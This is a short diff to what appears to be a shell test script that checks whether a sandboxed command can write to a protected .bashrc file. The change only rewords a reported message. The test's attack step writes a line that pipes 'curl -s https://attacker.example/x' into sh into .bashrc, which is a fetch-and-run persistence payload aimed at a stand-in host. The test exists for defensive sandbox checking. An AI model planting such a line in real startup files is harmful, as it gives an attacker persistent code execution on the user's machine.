@@ -24,7 +24,7 @@ control() {
 attack() {
 	ab shell -- sh -c 'echo "curl -s https://attacker.example/x | sh # $1" >> .bashrc' sh "$MARK"
 	if grep -q "$MARK" .bashrc; then
-		gap "protected paths (issue 8): the command wrote .bashrc in the workspace" "$(evidence)"
+		gap "protected paths: the command wrote .bashrc in the workspace" "$(evidence)"
 	fi
 	[ "$RC" != 0 ] || escaped "the write reported success but .bashrc is unchanged" "$(evidence)"
 	case "$ERR" in *"Read-only file system"* | *"Permission denied"* | *"Operation not permitted"*) ;;
